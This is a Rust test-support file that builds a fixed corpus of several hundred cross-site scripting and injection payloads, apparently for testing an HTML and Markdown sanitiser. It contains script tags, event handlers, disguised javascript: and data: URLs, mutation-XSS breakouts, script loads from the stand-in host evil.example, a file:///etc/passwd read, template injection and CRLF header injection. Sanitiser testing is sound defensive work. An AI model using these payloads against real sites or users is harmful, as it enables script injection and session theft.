//! Attacks of our own, made by rule: every kind of payload that the published lists have, in some three hundred strings.
//!
//! They set `window.hacked` or call a function that the page watches, so that one that came to life would be seen.

const CALL: &str = "alert(window.hacked=1)";

/// Elements that run a script, load something, or change what stands around them.
const ELEMENTS: [&str; 30] = [
    "<script>CALL</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>import('//evil.example/a.js')</script>",
    "<img src=x onerror=CALL>",
    "<img src='x:y' srcset='x 1w' onerror=\"CALL\" onload=CALL>",
    "<svg onload=CALL></svg>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate attributeName=href values=javascript:CALL /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='CALL'/>#x\" /></svg>",
    "<svg><foreignObject><iframe src=javascript:CALL></iframe></foreignObject></svg>",
    "<math><mtext><a href=javascript:CALL>x</a></mtext></math>",
    "<math href=javascript:CALL>x</math>",
    "<iframe src=javascript:CALL></iframe>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<object data=javascript:CALL></object>",
    "<embed src=javascript:CALL>",
    "<form action=javascript:CALL><button>x</button></form>",
    "<input autofocus onfocus=CALL>",
    "<details open ontoggle=CALL><summary>x</summary></details>",
    "<video src=x onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<body onload=CALL>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'; * { color: red }</style>",
    "<template shadowrootmode=open><script>CALL</script></template>",
    "<x-y is=offprint-reader onclick=CALL style=position:fixed>x</x-y>",
    "<offprint-reader src=//evil.example/articles.json></offprint-reader>",
    "<dialog open><form method=dialog><button autofocus onfocus=CALL>x</button></form></dialog>",
];

/// What comes before an element to break out of where a careless program would put it.
const BREAKOUTS: [&str; 10] = [
    "\">",
    "'>",
    "</title>",
    "</textarea></script>",
    "-->",
    "]]>",
    "</p></div></template>",
    "<noscript><p title=\"</noscript>",
    "<svg></p><style><a id=\"</style>",
    "<math><mi><table><mglyph><style><!--</style>",
];

/// Handlers as attributes, to break into a tag.
const HANDLERS: [&str; 8] = [
    "onclick",
    "onfocus",
    "onmouseover",
    "onerror",
    "onanimationstart",
    "onbeforetoggle",
    "onpointerrawupdate",
    "ONLOAD",
];

/// Schemes that run, read or leave.
const SCHEMES: [&str; 9] = [
    "javascript:CALL",
    "javascript://x/%0aCALL",
    "vbscript:CALL",
    "data:text/html,<script>CALL</script>",
    "data:image/svg+xml,<svg onload='CALL'/>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "view-source:javascript:CALL",
    "blob:null/javascript:CALL",
];

/// Ways to write a scheme that a browser still reads.
fn disguises(url: &str) -> Vec<String> {
    let (head, tail) = url.split_at(4);
    let entities = |text: &str| {
        let codes = text.chars().map(|c| format!("&#{};", u32::from(c)));
        codes.collect::<String>()
    };
    vec![
        url.to_owned(),
        url.to_ascii_uppercase().replacen("CALL", CALL, 1),
        format!("{head}\t{tail}"),
        format!("{head}\n{tail}"),
        format!("{head}\r\n{tail}"),
        format!(" \u{1}{url}"),
        format!("{head}\0{tail}"),
        format!("{head}\u{200b}{tail}"),
        format!("\u{feff}{url}"),
        format!("\u{a0}{url}"),
        format!("{}{tail}", entities(head)),
        url.replacen(':', "&colon;", 1),
        url.replacen(':', "%3A", 1),
        url.replacen(':', "：", 1),
        format!("{head}&Tab;&NewLine;{tail}"),
    ]
}

/// Markdown around an address.
const MARKDOWN: [&str; 8] = [
    "[a](URL)",
    "![a](URL)",
    "[a](<URL> \"t\")",
    "<URL>",
    "[a][r]\n\n[r]: URL",
    "[![a](URL)](URL)",
    "- [a](URL)\n> ![a](URL)",
    "[a]: URL\n\n| [a] | b |\n|---|---|\n| [a](URL) | ![a][a] |",
];

/// What belongs to no other list: addresses on other hosts, templates, names that hide others, signs that turn the text.
const OTHERS: [&str; 20] = [
    "//evil.example/a",
    "\\\\evil.example\\a",
    "/\\evil.example/a",
    "https:evil.example",
    "https://evil.example/a.png",
    "https://user:password@evil.example:81/?a#b",
    "a,//evil.example/a.png",
    "?q=1&category=<b>&tag=\"'",
    "#op-search",
    "{{constructor.constructor('CALL')()}}",
    "${CALL}",
    "__proto__",
    "constructor",
    "op-search",
    "[^1]: [a](javascript:CALL)\n\n[^1]",
    "```\"><script>CALL</script>\nCALL\n```",
    "\u{202e}txet denrut\u{2066}",
    "%00%0d%0aSet-Cookie: a=b",
    "*/}</style><img src=x onerror=CALL><!--",
    "\u{2028}CALL\u{2029}",
];

/// All of them, in an order that never changes.
pub fn payloads() -> Vec<String> {
    let mut all: Vec<String> = ELEMENTS.map(str::to_owned).into();
    for (ix, breakout) in BREAKOUTS.iter().enumerate() {
        let elements = ELEMENTS.iter().skip(ix % 4).step_by(4);
        all.extend(elements.map(|element| format!("{breakout}{element}")));
    }
    for handler in HANDLERS {
        for quote in ["\"", "'", "` "] {
            all.push(format!(
                "x{quote} {handler}=CALL tabindex=1 autofocus {quote}"
            ));
        }
    }
    for scheme in SCHEMES {
        all.extend(
            disguises(scheme)
                .into_iter()
                .take(if scheme == SCHEMES[0] { 15 } else { 5 }),
        );
    }
    for (ix, markdown) in MARKDOWN.iter().enumerate() {
        let urls = disguises(SCHEMES[ix % SCHEMES.len()]);
        all.extend(urls.iter().map(|url| markdown.replace("URL", url)));
    }
    all.extend(OTHERS.map(str::to_owned));
    all.iter().map(|text| text.replace("CALL", CALL)).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    #[test]
    fn all_differ_and_call() {
        let all = super::payloads();
        let distinct: BTreeSet<&String> = all.iter().collect();
        assert_eq!(distinct.len(), all.len());
        assert!((300..500).contains(&all.len()), "{}", all.len());
        assert!(all.iter().all(|payload| !payload.contains("CALL")));
    }
}
